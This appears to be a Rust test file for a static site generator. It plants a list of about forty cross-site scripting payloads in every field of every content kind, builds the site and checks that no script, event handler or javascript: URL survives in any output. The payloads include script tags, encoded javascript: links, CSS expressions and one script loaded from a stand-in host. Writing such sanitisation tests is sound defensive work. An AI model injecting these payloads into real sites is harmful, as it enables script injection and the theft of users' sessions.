//! The XSS corpus, planted in every content kind's title, tags-free fields,
//! handles, history notes and bodies; nothing may survive into any output.

use crate::harness::Fixture;

pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "[md link](javascript:alert(1))",
    "[md link](JAVASCRIPT:alert(1))",
    "[md entity](&#106;avascript:alert(1))",
    "![md image](javascript:alert(1))",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<b onmouseover=alert(1)>hover",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=\"javascript:alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
];

/// Writes a site where every public field of every kind carries payloads.
pub fn hostile_site() -> Fixture {
    let f = Fixture::new("qa");
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let yaml = serde_json::to_string(payload).unwrap(); // a JSON string is a valid YAML scalar
        f.write(
            &format!("content/questions/xss-{i:02}/index.md"),
            &format!("---\ntitle: {yaml}\nasked: 2026-01-01\nasked_by: {yaml}\n---\nQuestion {payload}\n"),
        );
        f.write(
            &format!("content/questions/xss-{i:02}/answers/a.md"),
            &format!("---\nauthor: {yaml}\ndate: 2026-01-02\n---\nAnswer {payload}\n"),
        );
        f.write(
            &format!("ideas/xss-{i:02}.md"),
            &format!(
                "---\ntitle: {yaml}\nsubmitted: 2026-11-01\nauthor: {yaml}\nstatus: open\nhistory:\n  - {{date: 2026-11-01, status: open, note: {yaml}}}\n---\nIdea {payload}\n"
            ),
        );
        f.write(
            &format!("content/guides/billing/xss-{i:02}.md"),
            &format!("---\ntitle: {yaml}\ndescription: {yaml}\nauthors: [{yaml}]\n---\nGuide {payload}\n"),
        );
    }
    f
}

fn assert_clean_html(file: &str, html: &str) {
    let doc = scraper::Html::parse_document(html);
    let sel = |css: &str| scraper::Selector::parse(css).unwrap();
    for script in doc.select(&sel("script")) {
        let kind = script.value().attr("type").unwrap_or("");
        let src = script.value().attr("src").unwrap_or("");
        let own = kind == "application/ld+json"
            || src.starts_with("/assets/")
            || script.inner_html().starts_with("try{var t=localStorage");
        assert!(own, "{file}: foreign script {}", script.html());
        if kind == "application/ld+json" {
            let parsed: Result<serde_json::Value, _> = serde_json::from_str(&script.inner_html());
            assert!(parsed.is_ok(), "{file}: JSON-LD broken");
        }
    }
    for tag in [
        "iframe",
        "object",
        "embed",
        "form:not(.site-search):not(.search-form)",
        "style",
        "base",
        "main svg",
        "main math",
        "body meta",
        "main link",
        "video",
    ] {
        assert!(
            doc.select(&sel(tag)).next().is_none(),
            "{file}: <{tag}> survived"
        );
    }
    for element in doc
        .root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
    {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "{file}: event attribute {name}");
            let folded: String = value
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_lowercase();
            for scheme in ["javascript:", "vbscript:", "data:text"] {
                assert!(!folded.starts_with(scheme), "{file}: {name}={value}");
            }
            if name == "style" {
                assert!(
                    !folded.contains("expression") && !folded.contains("url("),
                    "{file}: style {value}"
                );
            }
        }
    }
}

#[test]
fn no_payload_survives_in_any_output() {
    let f = hostile_site();
    f.build(&[]).ok();
    let mut checked = 0;
    for file in f.files() {
        if file.ends_with(".bin") {
            // search shards hold only letters and digits of the text
            let bytes = std::fs::read(f.out().join(&file)).unwrap();
            assert!(
                !bytes.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script")),
                "{file}"
            );
            continue;
        }
        let text = f.read(&file);
        if file.ends_with(".html") {
            assert_clean_html(&file, &text);
            checked += 1;
        } else if file.ends_with(".xml") {
            // feeds and sitemap: escaped text, never live markup
            assert!(!text.contains("<script"), "{file}");
            assert!(!text.contains("<img"), "{file}");
        } else if file.ends_with(".json") {
            let value: serde_json::Value =
                serde_json::from_str(&text).unwrap_or_else(|e| panic!("{file}: {e}"));
            drop(value);
        }
    }
    assert!(checked > PAYLOADS.len() * 3, "checked {checked} pages");
}

#[test]
fn fixture_xss_answer_is_sanitised_and_code_still_highlighted() {
    let f = Fixture::new("qa");
    f.build(&[]).ok();
    let page = f.page("questions/xss-answer/index.html");
    assert!(page.select(".answer iframe").is_empty());
    assert!(page.select(".answer pre.code.hl").len() == 1);
    let out_link = page.select(".answer a[href='https://evil.example']");
    assert_eq!(out_link.len(), 1);
    assert_eq!(
        out_link[0].value().attr("rel"),
        Some("nofollow ugc noopener")
    );
    assert!(out_link[0].value().attr("onclick").is_none());
}
